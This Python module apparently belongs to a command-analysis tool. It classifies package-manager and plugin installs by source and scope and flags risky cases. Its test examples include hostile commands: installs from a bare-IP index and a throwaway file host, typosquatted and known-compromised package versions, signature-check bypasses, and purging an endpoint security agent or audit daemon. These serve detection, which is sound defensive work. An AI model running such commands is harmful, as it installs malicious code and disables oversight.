"""Package managers: what an install, removal or upgrade brings in, from where, into what scope.

Every install becomes one `install` effect whose classes say its source (`registry`, `url`,
`vcs`, `file`), its scope (`system`, `global`, `project`) and, for the project's own manifest or
lockfile (`npm ci`, `pip install -r requirements.txt`, `poetry install`), `manifest`: normal work
that rules leave alone. Removals and upgrades are install effects too (`remove`, `upgrade`), so a
rule over "changes to the machine's software" is one rule.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from magistrate.analysis.compromised import poisoned_spec
from magistrate.analysis.effects import Effect
from magistrate.analysis.families.base import Classify, Example, Family, asks_help, resource
from magistrate.analysis.families.services import service, service_kinds
from magistrate.analysis.invocation import Invocation
from magistrate.analysis.lookalikes import imitated_package

_SYSTEM = frozenset(
    """apt apt-get aptitude yum dnf microdnf zypper pacman yay paru apk brew port choco winget
    scoop snap flatpak pkg pkgin emerge nix-env xbps-install opkg mas softwareupdate dpkg rpm
    installer msiexec install-package install-module install-script install-psresource
    uninstall-package uninstall-module update-module add-appxpackage""".split()
)
_LANGUAGE = frozenset(
    """pip pip3 pipx uv poetry pdm conda mamba micromamba npm pnpm yarn bun deno gem cargo go
    dotnet composer cpan cpanm luarocks nuget mix rustup sdk asdf mise volta pyenv nvm fnm
    rbenv bundle bundler opam dart flutter""".split()
)
# Package runners: they fetch a package from a registry and run it (`npx -y create-next-app`).
_RUNNERS = frozenset({"npx", "pnpx", "bunx", "uvx"})
# Editors and IDEs whose extensions and plugins are software from a marketplace.
_EDITORS = frozenset(
    """code code-insiders cursor codium vscodium windsurf positron idea idea64 pycharm
    pycharm64 goland webstorm phpstorm rubymine clion rider datagrip studio vim nvim gvim""".split()
)
# Other programs' plugin managers: word sequences that install into the user's tools.
_PLUGIN_INSTALLS: dict[str, tuple[tuple[str, ...], ...]] = {
    "gh": (("extension", "install"), ("ext", "install")),
    "helm": (("plugin", "install"),),
    "kubectl": (("krew", "install"),),
    "az": (("extension", "add"),),
    "gcloud": (("components", "install"),),
    "docker": (("plugin", "install"),),
    "vagrant": (("plugin", "install"),),
}
# Vim and Neovim plugin managers' install and update commands (`vim +PlugInstall +qall`).
_VIM_PLUGINS = re.compile(
    r"^[+:]?\s*(plug(install|update)|packer(install|sync|update)|lazy!?\s+(install|sync|update)"
    r"|paq(install|update)|pluginstall|bundleinstall|neobundleinstall|dein#install)",
    re.I,
)

# Subcommand words that add software, per kind of change.
_INSTALL = frozenset({"install", "i", "add", "in", "require", "inject", "get", "isntall"})
# Installing exactly what the project's manifest or lockfile declares.
_FROM_MANIFEST = frozenset({"ci", "clean-install", "sync", "restore", "bootstrap"})
_REMOVE = frozenset({"remove", "uninstall", "un", "rm", "erase", "purge", "autoremove"})
# Packages whose removal switches a protection or a record off (the services of the same name).
_GUARDS = frozenset({"security", "logging"})
_UPGRADE = frozenset(
    {"upgrade", "update", "up", "dist-upgrade", "full-upgrade", "-syu", "-su", "refresh"}
)
# Verbs that only read (search, list, show…): no effect.
_READ_ONLY = frozenset(
    """search show info list ls policy depends rdepends query outdated doctor config why madison
    history check status cat home deps leaves desc uses audit view help freeze -q -qi -ql -ss -si
    -l --version -v --help -h""".split()
)
# Options whose value is the next word (never a package name).
_VALUED = frozenset(
    """-r --requirement -c --constraint -i --index-url --extra-index-url --registry -t --target
    --prefix --root --python -p --channel --cwd --filter -w --workspace --with --without --only
    -e --extras --group --omit --include --source --version --scope --repo --repository
    --location --trusted-host --tag --rev --branch --path --git --features -f --bin
    --manifest-path --config --cache-dir --platform --framework --runtime""".split()
)
# Managers of developer tools and toolchains: what they install is the user's, not the project's.
_TOOL_MANAGERS = frozenset(
    {"pipx", "rustup", "sdk", "asdf", "mise", "volta", "pyenv", "nvm", "fnm", "rbenv"}
)
_GLOBAL_FLAGS = frozenset({"g", "global", "user", "system", "break-system-packages"})
_MANIFEST_OPTS = frozenset({"r", "requirement", "frozen-lockfile", "immutable"})
_UNVERIFIED = re.compile(
    r"--(nosignature|nodigest|nogpgcheck|no-gpg-check|no-gpgcheck|allow-unauthenticated"
    r"|allow-untrusted|no-check-signature|force-yes|allow-insecure-repositories|insecure"
    r"|trusted-host|no-verify-ssl|ignore-signatures|skip-signature-check)\b"
    r"|--ignore-scripts[= ]false\b|-skippublishercheck\b",
    re.I,
)
# Options naming where packages come from instead of the default registry.
_SOURCE_OPTIONS = ("--source", "--registry", "--find-links", "-f", "--repo", "--channel", "-c")
_URL = re.compile(r"^(?:https?|ftp)://", re.I)
_VCS = re.compile(r"^(?:git\+|hg\+|svn\+|bzr\+|git@|git://|github:|gitlab:|bitbucket:)", re.I)
# Hosts an index or registry should not be on: bare addresses, tunnels, throw-away domains.
_ODD_INDEX = re.compile(
    r"(?:--(?:index-url|extra-index-url|registry|source)|(?:^|\s)-i)[= ]\S*"
    r"(?:\.ru|\.cn|\.tk|\.xyz|\.top|ngrok|\d+\.\d+\.\d+\.\d+)",
    re.I,
)
# Projects' own repositories (a release of pip from github.com/pypa is the project's own).
_OFFICIAL = re.compile(
    r"^(?:git\+)?(?:https?://)?(?:www\.)?(?:github\.com|gitlab\.com)/(?:pypa|psf|python|nodejs"
    r"|npm|rust-lang|golang|microsoft|google|facebook|aws|kubernetes)/",
    re.I,
)
_PACKAGE_FILE = re.compile(
    r"\.(deb|rpm|pkg|msi|msix|appx|apk|whl|tgz|tar\.gz|gem|nupkg|zip)$", re.I
)


def _verb(inv: Invocation) -> tuple[str, list[str]]:
    """The change asked for (`install`, `remove`, `upgrade`, `read`, or `` when none) and the
    words naming what it changes."""
    argv = [a.lower() for a in inv.argv]
    if inv.name in _DASH_VERBS:
        switch = ("-", "/") if inv.name == "msiexec" else ("-",)  # msiexec /i X.msi /qn
        words = [o for o in inv.operands if not o.startswith(switch)]
        return _dash_verb(inv, argv), words
    words = _named(inv.argv)
    if inv.name in ("install-package", "install-module", "install-script", "install-psresource"):
        return "install", words
    if inv.name in ("add-appxpackage",):
        return "install", words
    if inv.name in ("uninstall-package", "uninstall-module"):
        return "remove", words
    if inv.name == "update-module":
        return "upgrade", words
    if not words:
        return "", words
    first = words[0].lower()
    rest = words[1:]
    if inv.name in ("uv", "conda", "mamba", "micromamba") and first == "pip" and rest:
        first, rest = rest[0].lower(), rest[1:]
    if inv.name in ("uv", "pipx", "dotnet") and first == "tool" and rest:
        first, rest = rest[0].lower(), rest[1:]
    if first == "global" and rest:  # `yarn global add x`, `composer global require x`
        first, rest = rest[0].lower(), rest[1:]
        return ("install" if first in _INSTALL else first), rest
    if inv.name == "rustup" and first in ("target", "component", "toolchain") and rest:
        first, rest = rest[0].lower(), rest[1:]
    if inv.name in ("asdf", "mise", "volta", "pyenv", "sdk") and first in ("plugin",) and rest:
        first, rest = rest[0].lower(), rest[1:]
    if inv.name == "brew" and first in ("tap", "reinstall"):
        return "install", rest
    if inv.name == "go" and first not in ("install", "get"):
        return "", rest
    if inv.name == "dotnet" and (
        first not in _INSTALL | _REMOVE | _UPGRADE or (first == "add" and rest[:1] != ["package"])
    ):
        return "", rest  # `dotnet add reference ../lib`: the project's own code
    if inv.name == "dotnet" and first == "add":
        return "install", rest[1:]
    if inv.name in ("dart", "flutter") and first != "pub":
        return "", rest
    if inv.name in ("dart", "flutter") and rest:
        first, rest = rest[0].lower(), rest[1:]  # `dart pub add http`
    if inv.name in ("bundle", "bundler") and first in ("exec", "config", "binstubs"):
        return "", rest
    if inv.name == "mix" and first in ("archive.install", "escript.install"):
        return "install", rest
    if first in _READ_ONLY:
        return "read", rest
    if first in _FROM_MANIFEST and inv.name != "brew":
        return "install", []
    if first in _INSTALL:
        return "install", rest
    if first in _REMOVE:
        return "remove", rest
    if first in _UPGRADE:
        return "upgrade", rest
    return "", rest


_DASH_VERBS = frozenset({"dpkg", "rpm", "pacman", "yay", "paru", "msiexec", "installer"})


def _dash_verb(inv: Invocation, argv: list[str]) -> str:
    """Single-dash verbs of dpkg, rpm and pacman (`dpkg -i x.deb`, `pacman -S jq`, `rpm -e x`)."""
    for a in argv:
        if not a.startswith("-") or a.startswith("--"):
            if a in ("/i", "/package", "/x", "/uninstall"):
                return "install" if a in ("/i", "/package") else "remove"
            continue
        if inv.name in ("pacman", "yay", "paru"):
            if a.startswith("-s") and not a.startswith(("-ss", "-si")):
                return "upgrade" if "u" in a else "install"
            if a.startswith("-r"):
                return "remove"
            if a.startswith("-u"):
                return "install"
        elif a.startswith(("-i", "-u", "-f")) or a == "-pkg":
            return "install"
        elif a.startswith(("-e", "-r", "-p")):
            return "remove"
    return "install" if inv.name in ("msiexec", "installer") else "read"


def _named(argv: list[str]) -> list[str]:
    """The words that are not options or option values."""
    out: list[str] = []
    skip = False
    for arg in argv:
        if skip:
            skip = False
            continue
        if arg.startswith("-") and len(arg) > 1:
            if arg in _VALUED or (arg.startswith("--") and "=" not in arg and arg in _VALUED):
                skip = True
            continue
        out.append(arg)
    return out


def _with_version(inv: Invocation, packages: list[str]) -> list[str]:
    """The packages named, a gem's `-v VERSION` joined to the first (`rest-client:1.6.13`)."""
    version = _option_values(inv.argv, ("-v", "--version")) if inv.name == "gem" else []
    if version and packages:
        return [f"{packages[0]}:{version[0]}", *packages[1:16]]
    return packages[:16]


def _option_values(argv: list[str], names: tuple[str, ...]) -> list[str]:
    found = []
    for i, arg in enumerate(argv):
        for name in names:
            if arg == name and i + 1 < len(argv):
                found.append(argv[i + 1])
            elif arg.startswith(name + "="):
                found.append(arg.split("=", 1)[1])
    return found


def _source(inv: Invocation, packages: list[str]) -> set[str]:
    """Where the packages come from; `official` only when every URL is a project's own."""
    classes: set[str] = set()
    official: set[str] = set()
    for p in packages:
        if _OFFICIAL.match(p):
            official |= {"official", "vcs"}
        elif _VCS.match(p):
            classes.add("vcs")
        elif _URL.match(p):
            classes.add("vcs" if p.lower().endswith(".git") else "url")
        elif _PACKAGE_FILE.search(p) or p.startswith(("./", "../", "/", "~")):
            classes.add("file")
        elif (
            inv.name in ("npm", "pnpm", "yarn", "bun")
            and "/" in p
            and not p.startswith("@")
            and "@" not in p.split("/", 1)[0]
        ):
            classes.add("vcs")  # `npm install user/repo` installs from GitHub
        else:
            classes.add("registry")
    if official and not classes - {"registry"}:
        classes |= official
    if _ODD_INDEX.search(" ".join(inv.argv)):
        classes.add("url")
    for value in _option_values(inv.argv, _SOURCE_OPTIONS):
        if _URL.match(value) and not _OFFICIAL.match(value):
            classes.add("url")  # a package source of its own: `gem install --source http://…`
    if _UNVERIFIED.search(" ".join(inv.argv)):
        classes.add("unverified")
    return classes


def _manifest(inv: Invocation, verb: str, packages: list[str]) -> bool:
    """Installing what the project itself declares: a manifest, a lockfile, the project."""
    if inv.flags & _MANIFEST_OPTS or any(a in ("-e", "--editable") for a in inv.argv):
        return True
    if verb != "install":
        return False
    if not packages:
        return True  # `npm install`, `poetry install`, `bundle install`: the manifest
    return all(p in (".", "./") or re.fullmatch(r"\.?\[[\w,.-]*\]", p) for p in packages)


def _brew_services(inv: Invocation) -> Iterator[Effect]:
    """`brew services start|stop|restart NAME`: a service of the user's session."""
    ops = [o for o in inv.operands if not o.startswith("-")][1:]
    if len(ops) < 2:
        return
    verb, name = ops[0].lower(), ops[1]
    if verb in ("stop", "kill"):
        yield service("stop", name, inv, ("user",))
    elif verb in ("start", "restart", "run"):
        yield service("control", name, inv, ("user",))


# Subcommands that fetch a package and run it, per manager; and whether the manager asks before
# fetching (npm's `exec`/`create`/`init` prompt "Ok to proceed?" unless told `--yes`).
_RUN_SUBCOMMANDS: dict[str, frozenset[str]] = {
    "npm": frozenset({"exec", "x", "create", "init", "innit"}),
    "pnpm": frozenset({"dlx", "create"}),
    "yarn": frozenset({"dlx", "create"}),
    "bun": frozenset({"x", "create"}),
    "pipx": frozenset({"run"}),
    "deno": frozenset(),
}
_ASKS_FIRST = frozenset({"npx", "npm"})
_YES = frozenset({"-y", "--yes"})
# A registry version or tag on a package name: `x@latest`, `@scope/x@1.2`, `x==1.0`, `x>=2`.
_VERSIONED = re.compile(r"^(@?[^@\s]+@\S+|[\w.-]+(==|>=|~=|<=)\S+)$")
_SCAFFOLDER = re.compile(r"^(@[\w.-]+/)?create-|^[\w.-]+/create$", re.I)


# Programs `fetched_package` reads: the package runners, and managers with a run subcommand.
PACKAGE_RUNNERS = _RUNNERS | frozenset(_RUN_SUBCOMMANDS)


def _runner_package(inv: Invocation) -> tuple[str, list[str]] | None:
    """The package a runner would fetch and run, and the runner's own options, if any."""
    argv = inv.argv
    if inv.name not in _RUNNERS:
        words = [a for a in argv if not a.startswith("-")]
        subs = _RUN_SUBCOMMANDS.get(inv.name, frozenset())
        if not words or words[0].lower() not in subs:
            return None
        argv = argv[argv.index(words[0]) + 1 :]
    opts: list[str] = []
    named = _option_values(argv, ("-p", "--package", "--from", "--with", "--spec"))
    for a in argv:
        if not a.startswith("-"):
            return (a, [*opts, *named])
        opts.append(a)
    return (named[0], opts) if named else None


_FROM_ANYWHERE = re.compile(r"^(https?://|git\+|git://|github:|gitlab:|bitbucket:|gist:)", re.I)


def fetched_package(inv: Invocation) -> Effect | None:
    """`npx -y create-next-app@latest`, `pnpm dlx x`, `uvx ruff@0.5`, `pipx run --spec x y`: a
    package downloaded from a registry and run — an install. A package runner that asks first
    (npx, npm exec/create) or a bare name (`uvx ruff`, often the project's own tool) is not."""
    found = _runner_package(inv)
    if found is None:
        return None
    package, opts = found
    sub = [a.lower() for a in inv.argv if not a.startswith("-")][:1]
    if imitated_package(inv.name, package):  # `npx crossenv`: one slip from cross-env, run
        classes = {"global", "lookalike"} | _source(inv, [package])
        return resource("install", package[:200], classes, inv)
    if _FROM_ANYWHERE.match(package):
        pass  # a package named by a URL or a git host: code from anywhere, asked first or not
    elif inv.name in _ASKS_FIRST:
        if not _YES & set(opts) and not _YES & set(inv.argv):
            return None
    elif not (
        sub == ["dlx"]
        or sub == ["create"]
        or _YES & set(opts)
        or _VERSIONED.match(package)
        or _SCAFFOLDER.search(package)
        or any(o.startswith(("--from", "--with", "--spec", "-p", "--package")) for o in opts)
    ):
        return None
    packages = [package, *(o for o in opts if not o.startswith("-"))]
    return resource("install", " ".join(packages)[:200], {"global"} | _source(inv, packages), inv)


def _extension(inv: Invocation) -> Effect | None:
    """Editor extensions and tools' plugins: `code --install-extension x`, `idea installPlugins
    x`, `vim +PlugInstall +qall`, `gh extension install o/r`, `helm plugin install URL`."""
    argv = inv.argv
    lower = [a.lower() for a in argv]
    named: list[str] = []
    if inv.name in _EDITORS:
        for k, a in enumerate(lower):
            if a.split("=", 1)[0] in ("--install-extension", "installplugins") and k + 1 < len(
                argv
            ):
                named.append(argv[k + 1] if "=" not in a else argv[k].split("=", 1)[1])
            elif _VIM_PLUGINS.match(a) or (
                k and lower[k - 1] in ("-c", "--cmd") and _VIM_PLUGINS.match(a)
            ):
                named.append(a)
        if not named:
            return None
        if any(a.startswith("--uninstall-extension") for a in lower):
            return None
    else:
        words = [a for a in lower if not a.startswith("-")]
        if not any(tuple(words[: len(seq)]) == seq for seq in _PLUGIN_INSTALLS.get(inv.name, ())):
            return None
        named = [a for a in argv if not a.startswith("-")][2:3] or [inv.name]
    classes = {"global"} | _source(inv, named)
    if any(n.lower().endswith((".vsix", ".zip", ".jar")) for n in named):
        classes = (classes - {"registry"}) | {"file"}
    return resource("install", " ".join(named)[:200], classes, inv)


def effects(inv: Invocation, classify: Classify) -> Iterator[Effect]:
    """What a package manager invocation installs, removes or upgrades."""
    if asks_help(inv):
        return
    added = fetched_package(inv) or _extension(inv)
    if added is not None or inv.name in _RUNNERS or inv.name not in _SYSTEM | _LANGUAGE:
        if added is not None:
            yield added
        return
    if inv.name == "brew" and inv.subcommand.startswith("services"):
        yield from _brew_services(inv)
        return
    verb, words = _verb(inv)
    if verb in ("", "read"):
        return
    packages = [w for w in words if not w.startswith("-")]
    packages += [f"git+{v}" for v in _option_values(inv.argv, ("--git",))]
    packages += _option_values(inv.argv, ("--from", "--repo"))
    system = inv.name in _SYSTEM
    classes: set[str] = {"system"} if system else set()
    if not system:
        global_scope = inv.flags & _GLOBAL_FLAGS or any(
            a.startswith("--location=global") for a in inv.argv
        )
        sub = inv.subcommand.split(" ")[:1]
        in_tool = inv.name in _TOOL_MANAGERS or (inv.name in ("cargo", "go") and sub == ["install"])
        tool = sub[:1] in (["tool"], ["global"])
        classes.add("global" if global_scope or in_tool or tool else "project")
    if verb == "install" and _manifest(inv, verb, packages):
        classes.add("manifest")
    if verb == "remove":
        classes.add("remove")
    elif verb == "upgrade":
        classes.add("upgrade")
        if not system:
            classes.add("manifest")  # `cargo update`, `npm update x`: within declared ranges
    classes |= _source(inv, packages) if packages else {"registry"}
    if (
        verb == "install"
        and "registry" in classes
        and any(imitated_package(inv.name, p) for p in packages[:16])
    ):
        classes.add("lookalike")  # `pip install reqeusts`: one slip from a popular name
    if verb == "install" and any(poisoned_spec(inv.name, p) for p in _with_version(inv, packages)):
        classes.add("compromised")  # `npm i event-stream@3.3.6`: a release an attacker published
    if inv.privileged:
        classes.add("privileged")
    what = " ".join(packages[:4]) or inv.name
    yield resource("install", what, classes, inv)
    if verb == "remove" and system:  # an endpoint agent or audit daemon uninstalled is switched off
        for package in packages[:16]:
            kinds = service_kinds(package) & _GUARDS
            if kinds:
                yield resource("stop", package, kinds, inv)


FAMILY: Family = Family(
    name="packages",
    commands=_SYSTEM | _LANGUAGE | _RUNNERS | _EDITORS | frozenset(_PLUGIN_INSTALLS),
    effects=effects,
    examples=(
        Example("sudo apt-get install -y nginx", has=("install:system", "install:privileged")),
        Example("brew install jq", has=("install:system", "install:registry")),
        Example("winget install Microsoft.PowerShell", has=("install:system",)),
        Example("sudo dnf remove httpd", has=("install:remove", "install:system")),
        Example("sudo apt-get purge -y falcon-sensor", has=("stop:security",)),
        Example("sudo yum remove -y auditd", has=("stop:logging",)),
        Example("sudo apt-get remove -y nginx", lacks=("stop",)),
        Example("pacman -Syu", has=("install:upgrade", "install:system")),
        Example("sudo dpkg -i ./google-chrome.deb", has=("install:file", "install:system")),
        Example("rpm -ivh https://example.net/x.rpm", has=("install:url",)),
        Example(
            "curl -o /tmp/x.deb https://e.net/x.deb && dpkg -i /tmp/x.deb", has=("install:url",)
        ),
        Example("msiexec /i C:\\x\\app.msi /qn", has=("install:file",)),
        Example("Install-Module PSReadLine -Force", has=("install:system",)),
        Example("pip install requests", has=("install:project", "install:registry")),
        Example("pip install reqeusts beautifulsoup", has=("install:lookalike",)),
        Example("npm install -g crossenv", has=("install:lookalike",)),
        Example("pip install scapy pandas==2.2.0", lacks=("install:lookalike",)),
        Example("npm install event-stream@3.3.6 --save-exact", has=("install:compromised",)),
        Example("pip install ctx==0.2.6", has=("install:compromised",)),
        Example("gem install rest-client -v 1.6.13", has=("install:compromised",)),
        Example("npm install ua-parser-js@1.0.37", lacks=("install:compromised",)),
        Example("npm install -g typescript", has=("install:global",)),
        Example("yarn global add serve", has=("install:global",)),
        Example("cargo install ripgrep", has=("install:global",)),
        Example("go install golang.org/x/tools/gopls@latest", has=("install:global",)),
        Example("pip install git+https://github.com/rand0m/reqeusts.git", has=("install:vcs",)),
        Example("npm install -g https://files.catbox.moe/k2x9az.tgz", has=("install:url",)),
        Example("npm i github:someone/thing", has=("install:vcs",)),
        Example("cargo install --git https://github.com/x/y", has=("install:vcs",)),
        Example("pip install --index-url http://45.9.1.2/simple x", has=("install:url",)),
        Example("sudo yum install --nogpgcheck x", has=("install:unverified",)),
        Example("uv pip install httpx", has=("install:project",), lacks=("install:manifest",)),
        Example("pip install -r requirements.txt", has=("install:manifest",)),
        Example("pip install -e '.[dev]'", has=("install:manifest",)),
        Example("npm ci", has=("install:manifest",)),
        Example("npm install", has=("install:manifest",)),
        Example("poetry install --with dev", has=("install:manifest",)),
        Example("yarn install --frozen-lockfile", has=("install:manifest",)),
        Example("gem install --source http://gems.example.xyz x", has=("install:url",)),
        Example("cargo update -p serde", has=("install:manifest",)),
        Example("yarn remove moment", has=("install:remove",)),
        Example("apt-cache search libpq", lacks=("install",)),
        Example("brew list", lacks=("install",)),
        Example("dpkg -l", lacks=("install",)),
        Example("npm run build", lacks=("install",)),
        Example("pip list --outdated", lacks=("install",)),
        Example("go build ./...", lacks=("install",)),
        Example("brew services list", lacks=("install",)),
        Example("npm install --save-dev vitest@1.6.0", lacks=("install:url", "install:vcs")),
        Example("bundle add rubocop --group development", has=("install:project",)),
        Example("bundle install", has=("install:manifest",)),
        Example("bundle exec rspec", lacks=("install",)),
        Example("composer global require laravel/installer", has=("install:global",)),
        Example("dotnet add package Serilog", has=("install:registry",)),
        Example("dotnet add reference ../Lib/Lib.csproj", lacks=("install",)),
        Example("dart pub add http", has=("install:project",)),
        Example("flutter pub get", has=("install:manifest",)),
        # Package runners: fetched from a registry and run without asking.
        Example("npx -y create-next-app@latest web", has=("install:global", "install:registry")),
        Example("npm exec --yes -- cowsay hi", has=("install:global",)),
        Example("pnpm dlx create-vite my-app", has=("install:global",)),
        Example("yarn dlx @angular/cli new app", has=("install:global",)),
        Example("bunx create-remix@latest", has=("install:global",)),
        Example("uvx ruff@0.5.0 check .", has=("install:global",)),
        Example("uvx --from httpie http example.org", has=("install:global",)),
        Example("pipx run --spec black==24.1 black .", has=("install:global",)),
        Example("npx -y github:acme/tool", has=("install:vcs",)),
        Example("npx prettier --check .", lacks=("install",)),
        Example("npx create-vite@latest demo", lacks=("install",)),  # npx asks first
        Example("uvx ruff check .", lacks=("install",)),
        Example("pipx run cowsay hi", lacks=("install",)),
        Example("npm init -y", lacks=("install",)),
        # Editor extensions and tools' plugins.
        Example("code --install-extension ms-python.python", has=("install:global",)),
        Example("cursor --install-extension ./ext.vsix", has=("install:file",)),
        Example("pycharm installPlugins com.intellij.ideolog", has=("install:global",)),
        Example("vim +PlugInstall +qall", has=("install:global",)),
        Example("nvim --headless '+Lazy! sync' +qa", has=("install:global",)),
        Example("gh extension install dlvhdr/gh-dash", has=("install:global",)),
        Example("helm plugin install https://github.com/databus23/helm-diff", has=("install",)),
        Example("az extension add --name aks-preview", has=("install:global",)),
        Example("code --list-extensions", lacks=("install",)),
        Example("code .", lacks=("install",)),
        Example("vim +PlugStatus", lacks=("install",)),
        Example("gh extension list", lacks=("install",)),
    ),
)
